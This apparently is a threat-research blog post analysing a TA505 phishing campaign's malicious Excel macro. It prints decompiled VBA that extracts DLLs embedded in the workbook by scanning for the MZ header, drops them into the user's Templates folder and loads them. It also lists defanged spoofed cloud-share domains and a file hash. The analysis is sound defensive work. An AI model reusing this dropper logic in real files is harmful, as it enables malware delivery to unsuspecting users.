TA505 campaign: Macro Analysis

Starting September we have seen a rise in campaigns from TA505 threat actor. They send emails in bulk with spoofed messages regarding hostedfiles on (spoofed) cloud share services. The sites look very similar to the real deal and allow download of MS Excel files and, in some cases, Word Docs, which contain VBA macros that drop and execute malicious DLLs. These campaigns are dropping RATs and downloaders. More IOCs will be provided at the end of the blog but only one example is covered in this blogpost. After all we have to do some ‘evil code analysis.’

This particular sample ‘N98300_10.21.19.xls’ (6e31b0051adf99888d50d8679c329ffb9b41991e04d8b639cc01f13e5f46656f) was downloaded from hxxps://dl2.dropbox-er[.]com/?BSoFW, which spoofed a dropbox file download page.


As soon as the file is downloaded and opened the below event should have triggered; however, due to acompilation error it stops.


Since PtrSafe is being used in both the #if and #else directives statement blocks it will fail to compile if run with VBA 6 or earlier. This macro is not backward compatible, probably a mistake from the malware author.


If we take a look at the directives the only difference is PtrSafe keywords in Win64 case and the dll file names, libDxdiag2.dll vs libDxdiag1.dll.

The function below in Module1 initializes some variables.

Public Sub AppStart()
Dim PointerNull As Object
Dim SpecialPath As String
Set PointerNull = CreateObject("WScri" + "pt.Shell") '<--WScript.Shell object

UserForm6.TextBox1.Tag = PointerNull.ExpandEnvironmentStrings("%" + UserForm6.TextBox1.Tag + "%")
'^ contains %Temp%UserForm6.TextBox2.Tag = PointerNull.SpecialFolders(UserForm6.TextBox2.Tag)
'^ contains %AppData%\Roaming\Microsoft\Windows\Templates

ChDir (UserForm6.TextBox1.Tag)

End Sub

The function ReplaceCurrentModule() in Module5 holds most of the meat of this malicious macro.

It concatenates some variables andstrings to store filenames:

TextBox1Tag = %Temp%\libProject.xlsx
ZipName = %Temp%\libProject.xlsx.zip
ZipFolder = %Temp%
nm = %AppData%\Roaming\Microsoft\Windows\Templates\libDxdiag1
CNPK = 278528
FilePosition = 1

Now the below directives may change some of the above values based on the platform:

#If Win64 Then
    nm = UserForm6.TextBox2.Tag + "\libDxdiag2"
    CNPK = 252928
    FilePosition = 2

And after the end of the directives .dll is appended to the nm variable.

The function KillArray in Module6 cleans all the files just in case they are already present in the above temporary locations.

'KillArray ZipFolder & "\ole" + "Obj" + "ect*.bin", ZipName, nm
Public Sub KillArray(ParamArray PathList() As Variant)
    On Error Resume Next
    For Each Key In PathList
        Kill Key
    Next Key
    On Error GoTo 0
End Sub

Then function ReplaceFile saves this workbook as %Temp%\libProject.xslx with file format 51 (xlOpenXMLWorkbook). More on excel file format enumeration here.

After that the same file is copied to the same folder with zip extension.

FileCopy TextBox1Tag, ZipName

In the next part of this function the ole object is copied out of the zip file location xl\embeddings\oleObject1.bin to the ZipFolder(%Temp%), as this contains thedll files.

Next the below function call from Module1 is executed:

NewValuje ZipFolder + "\oleObject" + "1" + ".b" + "in", nm, CNPK, FilePosition

This function is where it copies the embedded dll data out to the dll file. All it does is check for the MZ header and then start copying.
The function params are:
s = C:\Users\REM\AppData\Local\Temp\oleObject1.bin (source to copy from)
nm =C:\Users\REM\AppData\Roaming\Microsoft\Windows\Templates\libDxdiag1.dll (dll to copy to)
fl = 278528 (file length)
Variable_6 = 1 (or 2; file position) there are 2 DLLs embedded in the xls

Public Sub NewValuje(s As String, nm As String, fl As Long, Variable_6 As Integer)
    Dim Variable_1 As Long, Variable_2 As Byte, Variable_3 As Byte, Variable_4 As Byte
    Dim Variable_5() As Long

    ReDim Variable_5(1 To fl)
    Variable_5(1) = CByte(40 + 37)  '<-- decimal 77 = M
    Variable_5(2) = CByte(40 + 50)  '<-- decimal 90 = Z
    Variable_5(1 + 2) = CByte(40 + 104)  '<-- decimal 144
    'which means the Variable_5 first 3 bytes are 4d 5a 90
    Variable_1 = FreeFile
    Open s For Binary Access Read As Variable_1
    Dim cur As Integer
    cur = 1
    Do While Not EOF(Variable_1)Get Variable_1, , Variable_2
        If Variable_2 = Variable_5(1) Then
           Get Variable_1, , Variable_3
           If Variable_3 = Variable_5(2) Then
                Get Variable_1, , Variable_4
                If Variable_4 = Variable_5(3) Then
                     If cur = Variable_6 Then      'if the first file position in case of 32 bit
                        For k = 4 To fl
                            Get Variable_1, , Variable_2
                            Variable_5(k) = Variable_2
                            Next k
                         Exit Do
                        cur = cur + 1               'if the second file position in case of 64 bit
                     End If
                End If
           End If
        End If
    Close Variable_1

Then the DLL file is written to the location in nm variable.

At the end ReplaceCurrentModule() loads the DLL using LoadLibraryW

GetName2 (nm)  'Already imported

then calls the dll GetName function, which merely runs DLLEntryPoint.

The x64 version appears to be UPX packed.

Now this macro doesn’t do anything out of the ordinary except the social engineering part where it shows user form image that resembles install of office components as if something had failed.

Out of the most variants I have seen of this macro the above sample is the only one with the compilation error.I use urlscan.io to hunt for similar URLs, like this query https://urlscan.io/search/#domain%3A%20googledrive-*. One can use similar queries to look for these domains. However, due to possible urlscan.io evasion the TA505 domains redirect to apple.com. But I have found this to be a good indicator that the domain is from the same group.

Below are the other domains that look like cloud storage file download pages:



Google Drive:


box-cnd[.]com <– using onehub.com

Other lesser known services like owncloud and sync have also been spoofed.

Thanks to @kyleehmke and @James_inthe_box for keeping track of this campaign and tweeting the latestIOCs.

Leave a Reply

Fill in your details below or click an icon to log in:

WordPress.com Logo

You are commenting using your WordPress.com account. Log Out /  Change )

Twitter picture

You are commenting using your Twitter account. Log Out /  Change )

Facebook photo

You are commenting using your Facebook account. LogOut /  Change )

Connecting to %s